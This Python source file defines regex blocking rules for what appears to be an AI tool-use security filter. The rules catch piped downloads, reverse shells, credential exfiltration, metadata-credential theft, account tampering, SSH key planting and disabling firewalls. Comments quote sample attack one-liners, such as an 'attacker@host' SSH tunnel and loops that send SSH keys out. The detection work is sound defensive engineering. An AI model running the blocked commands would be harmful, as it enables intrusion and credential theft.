"""Blocking rules against intrusion: running fetched or hidden code, reverse shells,
stealing credentials, backdoors, turning defences off.

See :mod:`.rules` for how rules are written and matched."""

from __future__ import annotations

from typing import Final

from toolang_hook_security_filter.fragments import (
    BROWSER_HINTS,
    BROWSER_SECRET,
    CH,
    CODE_DECODE,
    CODE_RUNNERS,
    COPIERS,
    CREDENTIAL_FILE,
    CREDENTIAL_HINTS,
    DECODE_HINTS,
    DOWNLOADER,
    DOWNLOADERS,
    END,
    EXEC_MODE,
    FETCHED,
    FETCHERS,
    HOME,
    INTERPRETER,
    NET_SENDER,
    NETCATS,
    NO_SEMI,
    PS_DOWNLOADERS,
    QUOTED_FILE,
    READERS,
    RUN_FILE,
    SECRET_DIR,
    SECRET_DIR_GLOB,
    SECRET_FILE,
    SECRET_HINTS,
    SENDERS,
    SHELL,
    SSH_KEY,
    SUDO,
    SYSTEM_ROOTS,
    WORLD_WRITABLE,
    Q,
    code_writes,
    later,
    pipe_on,
    recursive,
    scan,
    then_runs,
    upto,
    w,
)
from toolang_hook_security_filter.spec import RuleSpec, alt, spec

FETCHER = w(*FETCHERS, before=r"[\w.-]")
ANY = r"[\s\S]"
CODE_SENDERS = ("post", "put", "patch", "request", "urlopen", "upload", "upload_file", "fetch")
# Node: a shell spawned (`spawn('/bin/sh')`) and a socket opened (`net.connect(…)`).
NODE_SHELL = (
    r"\b(?:spawn|exec)\w*\(\s*[\"'`](?:/bin/|/usr/bin/)?"
    r"(?:(?:ba|z|da)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)[\"'`]"
)
NODE_SOCKET = (
    r"(?:\bnet\b[\w'\"`()\s]{0,20}?\.\s*(?:connect|createconnection)\(|\bnew\s+net\.socket\b)"
)

INTRUSION: Final[tuple[RuleSpec, ...]] = (
    spec(
        "download-piped-to-interpreter",
        "runs code downloaded from the network without looking at it",
        alt(
            rf"{DOWNLOADER}{pipe_on(*DOWNLOADERS)}{SUDO}(?:{SHELL}|{INTERPRETER})",
            *("curl", "wget", "fetch", "aria", "http", "https", "iwr", "irm", "invoke"),
        ),
        alt(
            r"\b(?:(?:ba|z|k)?sh|python[23]?|perl|ruby|node|php)\s+(?:-s\s+)?<\(\s*(?:curl|wget)\b",
            "<(",
        ),
        alt(r"(?:\bsource|(?<![\w./])\.)\s+<\(\s*(?:curl|wget)\b", "<("),
        alt(
            rf"\b(?:(?:ba|z|k)?sh|python[23]?|perl|ruby|node)\s+-[ce]\s+{Q}\$\(\s*(?:curl|wget)\b",
            "$(",
        ),
        alt(rf"\beval\s+{Q}\$\(\s*(?:curl|wget)\b", "eval"),
        alt(
            rf"\b(?:iex|Invoke-Expression)\b{upto('iex', 'invoke-expression', line=True)}"
            r"(?:DownloadString|Invoke-WebRequest|\biwr\b|\birm\b|Invoke-RestMethod|Net\.WebClient)",
            "iex",
            "invoke",
        ),
        alt(
            r"(?:DownloadString|Invoke-WebRequest|\biwr\b|\birm\b|Invoke-RestMethod)"
            rf"{upto('iwr', 'irm', 'invoke-webrequest', 'invoke-restmethod', line=True)}\|\s*"
            r"(?:iex|Invoke-Expression)\b",
            "iex",
            "invoke",
        ),
        # In code: `exec(urlopen(…).read())`, `eval(requests.get(…).text)`, PHP, Ruby.
        alt(
            rf"{w('exec', 'eval')}\s*\(\s*[^\n;]{{0,200}}?(?:\burlopen\(|\burlretrieve\("
            rf"|\b(?:requests|httpx|session)\.get\(|\bfetch\(|\bfile_get_contents\(\s*{Q}https?:"
            rf"|\b(?:uri\.)?open\(\s*{Q}https?:|net::http\.get\b)",
            "exec",
            "eval",
        ),
        # The other way round: a fetch whose answer is run (`https.get(u, r => … eval(d))`).
        alt(
            r"(?:\bhttps?\b[\"'`)]{0,3}\.(?:get|request)\(|\bfetch\(|\baxios\.get\(|\burlopen\(|\brequests\.get\()"
            r"[^\n]{0,400}?(?:(?<![\w.])(?:eval|exec)\(|\bnew\s+function\(|\bvm\.run\w*\()",
            "eval",
            "exec",
            "function",
            "vm",
        ),
        # Windows programs that run a script straight from a URL (mshta, regsvr32 /i:,
        # rundll32 javascript:, msiexec /i, wmic /format:).
        alt(
            rf"{w('mshta')}(?:\.exe)?\s+{Q}(?:https?:|\\\\|vbscript:|javascript:)"
            rf"|{w('regsvr32')}(?:\.exe)?\s{upto('regsvr32')}/i:{Q}(?:https?:|\\\\)"
            rf"|{w('rundll32')}(?:\.exe)?\s{upto('rundll32')}javascript:"
            rf"|{w('msiexec')}(?:\.exe)?\s{upto('msiexec')}/(?:i|package)\s+{Q}https?:"
            rf"|{w('wmic')}(?:\.exe)?\s{upto('wmic')}/format:{Q}https?:",
            *("mshta", "regsvr", "rundll", "msiexec", "wmic"),
        ),
    ),
    spec(
        "download-then-execute",
        "downloads a script and runs it without looking at it",
        alt(
            rf"{w('curl', 'wget')}\b(?>{FETCHED}\s-(?:[a-z]*o|-output(?:-document)?)(?:=|\s*+)"
            rf"{QUOTED_FILE}){then_runs('curl', 'wget')}",
            "curl",
            "wget",
        ),
        alt(
            rf"{w(*PS_DOWNLOADERS)}\s(?>{upto(*PS_DOWNLOADERS, line=True)}"
            rf"-(?:OutFile|Destination)\s+{QUOTED_FILE}){then_runs(*PS_DOWNLOADERS)}",
            *("iwr", "irm", "invoke", "bitstransfer"),
        ),
        alt(
            rf"{w('certutil')}(?:\.exe)?\s(?>{upto('certutil', line=True)}-urlcache\b"
            rf"{upto('certutil', line=True)}\s{Q}https?://[^\s\"']+{Q}\s+{QUOTED_FILE})"
            rf"{then_runs('certutil')}",
            "certutil",
        ),
        alt(
            rf"{w('bitsadmin')}(?:\.exe)?\s+/transfer\s(?>{upto('bitsadmin', line=True)}\s"
            rf"{Q}https?://[^\s\"']+{Q}\s+{QUOTED_FILE}){then_runs('bitsadmin')}",
            "bitsadmin",
        ),
        alt(
            rf"(?:{w('wget')}|{w('curl')}(?>{FETCHED}\s-[a-z]*o))"
            rf"(?>\s{FETCHED}/([\w.-]++)(?<=\.sh|\.py|\.pl|\.rb|ps1)\b)"
            rf"(?>{FETCHED}(?:&&|;)){FETCHED}{RUN_FILE}\1(?![\w.-])",
            "curl",
            "wget",
        ),
        # Any download, then a file made runnable and run (`tftp -g -r bot h && chmod +x
        # bot && ./bot`), on the same or later lines.
        alt(
            rf"{FETCHER}\s{scan(ANY, *FETCHERS)}"
            rf"\bchmod\s+(?:-\S+\s+)*{EXEC_MODE}\s+{QUOTED_FILE}{then_runs('chmod')}",
            "chmod",
        ),
        # A download written to a file through stdout (`wget -O- url > /tmp/m; sh /tmp/m`).
        alt(
            rf"{FETCHER}\s(?>{upto(*FETCHERS, line=True)}"
            rf"(?<![\d&>])>(?!>)\s*{QUOTED_FILE}){then_runs(*FETCHERS)}",
            *("curl", "wget", "tftp", "ftp", "ftpget", "aria", "fetch", "download", "iwr"),
        ),
    ),
    spec(
        "decoded-payload-executed",
        "decodes hidden content and runs it",
        alt(
            rf"(?:{w('base64')}\s+(?:-d|--decode)|{w('xxd')}\s+-r"
            rf"|{w('openssl')}\s+(?:enc\s+)?-?base64\s+-d)"
            rf"{pipe_on('base64', 'xxd', 'openssl')}{SUDO}(?:{SHELL}|{INTERPRETER})",
            "base",
            "xxd",
        ),
        # A shell running what a decoder prints (`bash -c "$(echo … | base64 -d)"`,
        # `eval $(…)`, `source <(…)`).
        alt(
            r"(?:\b(?:(?:ba|z|da|k)?sh|python[23]?|perl|ruby|node)\s+-[ce]|\beval|\bsource"
            r"|(?:^|[;&|(\n])\s*\.|\b(?:ba|z|da|k)?sh)\s+[\"']?(?:\$\(|<\(|`)"
            r"[^)`\n]*?(?:\bbase64\s+(?:-d|--decode)\b|\bxxd\s+-r\b|\bopenssl\s[^)`\n]*?-d\b)",
            "base",
            "xxd",
            "openssl",
        ),
        alt(rf"{w('exec', 'eval')}\(\s*(?:base64\.b64decode|__import__\(\s*[\"']base64)", "base"),
        # Code handing decoded text to a runner: `os.system(b64decode(…))`, `eval(atob(…))`.
        alt(rf"{w(*CODE_RUNNERS)}\(\s*{CODE_DECODE}", *DECODE_HINTS),
        alt(rf"{w('iex', 'invoke-expression')}\b[^\n]{{0,200}}?frombase64string\b", "frombase"),
        alt(
            rf"{w('powershell', 'pwsh')}(?:\.exe)?\s{upto('powershell', 'pwsh', line=True)}"
            r"-(?:EncodedCommand|enc|ec|e)\s+"
            r"[A-Za-z0-9+/=]{40,}",
            "powershell",
            "pwsh",
        ),
    ),
    spec(
        "reverse-shell",
        "opens a shell to a remote host",
        alt(r"/dev/(?:tcp|udp)/[\w.-]+/\d+", "tcp", "udp"),
        alt(r"/inet6?/(?:tcp|udp)/\d+/[\w.-]+/\d+", "tcp", "udp"),  # gawk's network files
        # What a remote host sends, run by a shell: `telnet h 4444 | /bin/sh | telnet h 4445`.
        alt(
            rf"{w(*NETCATS)}\s[^\n|;&]{{0,200}}\|\s*(?:/usr)?(?:/bin/)?(?:ba|z|da|k)?sh"
            r"(?:\s+-i)?\s*(?:$|[|;&)\n])",
            *NETCATS,
        ),
        alt(
            rf"{w('nc', 'ncat', 'netcat')}(?:\.\w+)?\s{later('nc', 'ncat', 'netcat')}"
            rf"(?:-[a-z]*[ec]\s*{Q}\S*"
            r"(?:sh|cmd|powershell|pwsh)(?:\.exe)?\b|--(?:sh-)?exec\b)",
            "nc",
            "ncat",
            "netcat",
        ),
        alt(rf"{w('socat')}\b{upto('socat', line=True)}\b(?:exec|system):", "socat"),
        alt(
            rf"{w('mkfifo')}\b{upto('mkfifo', line=True)}\|\s*"
            r"(?:nc|ncat|netcat|openssl\s+s_client|telnet)\b",
            "mkfifo",
        ),
        alt(r"socket\.socket\([^\n]*?(?:subprocess|pty\.spawn|os\.dup2|/bin/(?:ba)?sh)", "socket"),
        alt(r"pty\.spawn\(\s*[\"']/bin/(?:ba|z)?sh[\"']", "pty"),
        alt(rf"{w('xterm')}\s+-display\s+[\w.-]+:\d", "xterm"),
        alt(r"sh\s+-i\s*(?:[0-9]?[<>]&|>\s*/dev/)", "i"),
        alt(r"fsockopen\s*\(", "fsockopen"),
        alt(
            r"TCPSocket\.(?:new|open)\b[^\n]*?(?:exec|spawn|/bin/(?:ba)?sh|IO\.popen)", "tcpsocket"
        ),
        alt(r"Net\.Sockets\.TCPClient\b", "tcpclient"),
        # Node: a shell spawned and a socket opened in the same code, either order.
        alt(
            rf"child_process\b[^\n]{{0,200}}?{NODE_SHELL}[^\n]{{0,300}}?{NODE_SOCKET}"
            rf"|{NODE_SOCKET}[^\n]{{0,300}}?child_process\b[^\n]{{0,200}}?{NODE_SHELL}",
            "child",
        ),
        # A remote host given a way into this machine's remote-access services
        # (`ssh -R 2222:localhost:22 attacker@host`: SSH, telnet, RDP, VNC, WinRM).
        alt(
            rf"{w('ssh', 'autossh')}\s{upto('ssh', 'autossh')}-[a-z]*R\s*{Q}"
            r"(?:[\w.*\[\]-]+:)?\d+:[\w.\[\]-]+:(?:22|23|3389|5900|5985|5986)(?![\w.])",
            "ssh",
            "autossh",
        ),
        alt(r"exec\s*\(?\s*[\"']/bin/(?:ba)?sh\s+-i", "exec"),
        alt(
            rf"{w('openssl')}\s+s_client\b{upto('openssl', line=True)}\|\s*(?:/bin/)?(?:ba)?sh\b",
            "client",
        ),
    ),
    spec(
        "credential-exfiltration",
        "sends credentials, keys or the environment over the network",
        alt(
            rf"(?:{SECRET_FILE}|{SECRET_DIR})[^\n;|]{{0,400}}\|[^\n;]{{0,400}}?{NET_SENDER}",
            *SECRET_HINTS,
        ),
        alt(
            rf"{w(*SENDERS)}\b{scan(NO_SEMI, *SENDERS)}"
            r"(?:\s-d|--data(?:-binary|-raw|-urlencode)?|\s-F|--form|\s-T|--upload-file|--post-file)"
            rf"(?:=|\s*){Q}(?:[\w-]+=)?@?{Q}[^\s\"']*?(?:{SECRET_FILE}|/etc/passwd\b)",
            *SECRET_HINTS,
            "passwd",
        ),
        alt(
            rf"{w(*COPIERS)}\s{upto(*COPIERS)}(?<!exclude[=\s])(?<!exclude[=\s][\"'])"
            rf"(?:{SECRET_FILE}|{SECRET_DIR}){upto(*COPIERS)}\s[\w.@-]+:",
            *SECRET_HINTS,
        ),
        alt(
            rf"{w(*NETCATS)}\s{upto(*NETCATS)}<\s*{Q}[^\s\"']*?{SECRET_FILE}",
            *SECRET_HINTS,
        ),
        alt(
            rf"{w(*PS_DOWNLOADERS)}\s{upto(*PS_DOWNLOADERS)}-InFile\s+{Q}[^\s\"']*?{SECRET_FILE}",
            *SECRET_HINTS,
        ),
        alt(
            rf"{w('post', 'put', 'patch', 'request', 'urlopen', 'fetch')}\s*\([^\n]{{0,300}}?"
            r"(?:\bos\.environ\b(?![\[.])|\bprocess\.env\b(?![\[.]))",
            "environ",
            "env",
        ),
        alt(
            rf"{w('gpg')}\s{upto('gpg')}--export-secret-(?:sub)?keys\b{upto('gpg')}\|"
            rf"[^\n;]{{0,300}}?{NET_SENDER}",
            "gpg",
        ),
        # From code: an HTTP call whose arguments read a key or credential file.
        alt(
            rf"{w(*CODE_SENDERS)}\s*\([^\n]{{0,300}}?{SECRET_FILE}",
            *SECRET_HINTS,
        ),
        # A loop over keys or credentials whose body sends each (`for f in ~/.ssh/id_*; do
        # curl -F "f=@$f" …; done`).
        alt(
            rf"{w('for', 'foreach')}\s+\$?(\w+)\s+in\s"
            rf"(?>[^\n;]{{0,300}}?(?:{SECRET_FILE}|{SECRET_DIR_GLOB}))(?>[^\n;]{{0,300}})"
            rf";?\s*do\b(?>[\s\S]{{0,300}}?{NET_SENDER})[^\n]{{0,300}}?\$\{{?\1\b",
            *SECRET_HINTS,
        ),
        # A browser's saved passwords, named at all: read, copied or archived to be sent.
        alt(BROWSER_SECRET, *BROWSER_HINTS),
        alt(
            rf"(?:{w('env', 'printenv', 'set')}|{w('export')}\s+-p)\s*\|"
            rf"{scan(NO_SEMI, 'env', 'printenv', 'set', 'export')}{NET_SENDER}",
            "env",
            "printenv",
            "set",
            "export",
        ),
        alt(
            rf"{w('curl', 'wget')}\b{scan(NO_SEMI, 'curl', 'wget')}\$\(\s*"
            rf"(?:env|printenv|(?:cat|base64)\s[^)]*?{SECRET_FILE})",
            "$(",
        ),
    ),
    spec(
        "cloud-metadata-credentials",
        "fetches cloud instance credentials from the metadata service",
        alt(
            r"(?:169\.254\.169\.254|metadata\.google\.internal|\[?fd00:ec2::254\]?)"
            r"[^\s\"']*?(?:security-credentials|/token\b|identity|/credentials)",
            "169.254.169.254",
            "metadata",
            "ec",
        ),
    ),
    spec(
        "read-secret-file",
        "reads password hashes, private keys or credential files into the conversation",
        alt(
            w(*READERS) + rf"\s{upto(*READERS)}{CREDENTIAL_FILE}",
            *CREDENTIAL_HINTS,
        ),
    ),
    spec(
        "secret-file-path",
        "names a private key, a credential file, the password hashes or SSH's authorized keys",
        alt(
            rf"\A\s*{Q}(?:{HOME}|/home/[^/\s]+|/Users/[^/\s]+|/root)?/?"
            rf"(?:{SSH_KEY}|\.ssh/authorized_keys2?|\.aws/credentials|\.netrc|\.git-credentials"
            rf"|\.docker/config\.json|\.pgpass|\.gnupg/\S*|etc/g?shadow|etc/sudoers(?:\.d/\S*)?)"
            rf"{Q}\s*\Z",
            *("ssh", "aws", "netrc", "credentials", "docker", "pgpass", "gnupg"),
            *("shadow", "gshadow", "sudoers"),
        ),
    ),
    spec(
        "system-permissions",
        "opens up or takes over the root or a system directory, or makes a shell setuid",
        alt(
            rf"{w('chmod', 'chown', 'chgrp')}\s{recursive(*CH)}{later(*CH)}"
            rf"{Q}{SYSTEM_ROOTS}{Q}{END}",
            "chmod",
            "chown",
            "chgrp",
        ),
        alt(
            rf"{w('chmod')}\s+(?:-\S+\s+)*{WORLD_WRITABLE}\s+"
            rf"{Q}(?:{SYSTEM_ROOTS}|/etc/(?:passwd|g?shadow|sudoers|group)){Q}{END}",
            "chmod",
        ),
        alt(
            rf"{w('chmod')}\s+(?:-\S+\s+)*(?:[0-7]?[0-7]{{2}}[1-7]|[ao]\+\S*r\S*)\s+{Q}/etc/g?shadow"
            rf"{Q}{END}",
            "chmod",
        ),
        alt(
            rf"{w('chmod')}\s+(?:-\S+\s+)*(?:u\+s|\+s|[2467][0-7]{{3}})\s+"
            r"(?:/usr)?(?:/local)?/s?bin/(?:ba|z|da)?sh\b",
            "chmod",
        ),
        alt(
            rf"{w('icacls')}\s+[a-z]:\\?\s{upto('icacls', line=True)}/grant\s+Everyone:\(?F",
            "icacls",
        ),
    ),
    spec(
        "system-account-tampering",
        "changes system accounts, password hashes or sudo rights",
        alt(
            rf"(?:>>?|{w('tee')}\s+(?:-a\s+|--append\s+)?){Q}\s*{Q}"
            r"/etc/(?:passwd|shadow|gshadow|group|sudoers(?:\.d/\S*)?)\b",
            "etc",
        ),
        alt(rf">(?<![>\d&]>)\s*{Q}/etc/(?:hosts|fstab|resolv\.conf)\b", "etc"),
        alt(
            rf"(?:{w('mv', 'cp')}|{w('ln')}\s+-s\S*)\s{upto('mv', 'cp', 'ln')}\s"
            rf"{Q}/etc/(?:passwd|shadow|sudoers){Q}{END}",
            "etc",
        ),
        alt(rf"{w('sed')}\s+-i{upto('sed')}\s/etc/(?:passwd|shadow|sudoers)\b", "etc"),
        alt(rf"{w('nopasswd')}\b", "nopasswd"),
        alt(
            rf"{w('useradd', 'usermod')}\b{upto('useradd', 'usermod')}\s(?:-u|--uid)\s*0\b",
            "useradd",
            "usermod",
        ),
        alt(rf"{w('passwd')}\s+-d\s+root\b", "passwd"),
        alt(rf"{w('root')}:[^\s:'\"]+[^\n|]*+\|\s*(?:sudo\s+)?chpasswd\b", "chpasswd"),
        alt(code_writes(r"/etc/(?:passwd|g?shadow|group|sudoers(?:\.d/[^\s'\"]*)?)"), "etc"),
        # Windows: the built-in Administrator's (or Guest's) password set or the account
        # switched on; anyone added to the administrators (or remote desktop) group.
        alt(
            rf"{w('net', 'net1')}(?:\.exe)?\s+user\s+{Q}(?:administrator|guest){Q}\s+"
            r"(?:[^\s/]|/active:yes\b)",
            "administrator",
            "guest",
        ),
        alt(
            rf"{w('net', 'net1')}(?:\.exe)?\s+(?:local)?group\s+{Q}"
            r"(?:administrators|administrateurs|administratoren|administradores|domain\sadmins"
            rf"|remote\sdesktop\susers){Q}\s{upto('net', 'net1')}/add\b",
            "localgroup",
            "group",
        ),
        alt(
            rf"{w('add-localgroupmember', 'add-adgroupmember')}\s"
            rf"{upto('add-localgroupmember', 'add-adgroupmember')}{Q}"
            r"(?:administrators|domain\sadmins|remote\sdesktop\susers)\b",
            "localgroupmember",
            "adgroupmember",
        ),
        # Linux's equivalent: a user added to the groups that may use sudo.
        alt(
            rf"{w('usermod')}\s{upto('usermod')}-[a-z]*g\s*{Q}(?:[\w-]+,)*(?:sudo|wheel|admin|root)"
            rf"{Q}(?=[,\s;&|]|$)",
            "usermod",
        ),
        alt(
            rf"(?:{w('gpasswd')}\s+-a\s+|{w('adduser')}\s+)[\w.$-]+\s+{Q}(?:sudo|wheel|admin|root)"
            rf"{Q}{END}",
            "gpasswd",
            "adduser",
        ),
    ),
    spec(
        "ssh-authorized-keys-write",
        "adds a key to SSH's authorized keys (a way back in)",
        alt(
            rf"(?:>>?|{w('tee')}\s+(?:-a\s+|--append\s+)?)\s*{Q}[^\s\"';&|]*\.ssh/authorized_keys",
            "authorized",
        ),
        alt(
            rf"{w('cp', 'mv', 'cat')}\s{upto('cp', 'mv', 'cat')}\s"
            rf"{Q}[^\s\"';&|]*\.ssh/authorized_keys2?{Q}{END}",
            "authorized",
        ),
    ),
    spec(
        "defences-off",
        "turns off the firewall, SELinux, audit or the virus scanner",
        alt(
            rf"{w('iptables', 'ip6tables', 'ebtables', 'arptables')}(?:-legacy|-nft)?\s+"
            r"(?:-t\s+\w+\s+)?(?:-F|--flush)\b",
            *("iptables", "tables", "ebtables", "arptables"),
        ),
        alt(rf"{w('nft')}\s+flush\s+ruleset\b", "nft"),
        alt(rf"{w('ufw')}\s+(?:--force\s+)?(?:disable|reset)\b", "ufw"),
        alt(rf"{w('setenforce')}\s+0\b", "setenforce"),
        alt(
            rf"{w('systemctl')}\s+(?:stop|disable|mask)\s+(?:--now\s+)?"
            r"(?:firewalld|ufw|apparmor|auditd|fail2ban|nftables|iptables)\b",
            "systemctl",
        ),
        alt(
            rf"{w('set-mppreference')}\b{upto('set-mppreference', line=True)}"
            r"-Disable\w*\s+\$?true",
            "mppreference",
        ),
        alt(
            rf"{w('netsh')}\s+(?:advfirewall\s+(?:reset\b|set\s+\w+\s+state\s+off\b)"
            r"|firewall\s+set\s+opmode\s+(?:mode=)?disable\b)",
            "netsh",
        ),
        alt(
            rf"{w('set-netfirewallprofile')}\b{upto('set-netfirewallprofile', line=True)}"
            r"-Enabled\s*:?\s*(?:\$?false|0)\b",
            "netfirewallprofile",
        ),
        alt(rf"{w('auditctl')}\s+(?:-D\b|-e\s*0\b)", "auditctl"),
        alt(
            rf"{w('add-mppreference')}\b{upto('add-mppreference', line=True)}-ExclusionPath\s+"
            rf"{Q}[a-z]:\\?{Q}{END}",
            "mppreference",
        ),
        # macOS: the application firewall, Gatekeeper, System Integrity Protection.
        alt(
            rf"{w('socketfilterfw')}\b{upto('socketfilterfw')}--setglobalstate\s+off\b",
            "socketfilterfw",
        ),
        alt(r"com\.apple\.alf\s+globalstate\s+-int\s+0\b", "alf"),
        alt(rf"{w('spctl')}\s+--master-disable\b|{w('csrutil')}\s+disable\b", "spctl", "csrutil"),
        alt(
            rf"{w('sc', 'net')}(?:\.exe)?\s+(?:stop|config|delete)\s+{Q}"
            r"(?:WinDefend|MpsSvc|wscsvc)\b",
            *("windefend", "mpssvc", "wscsvc"),
        ),
    ),
)
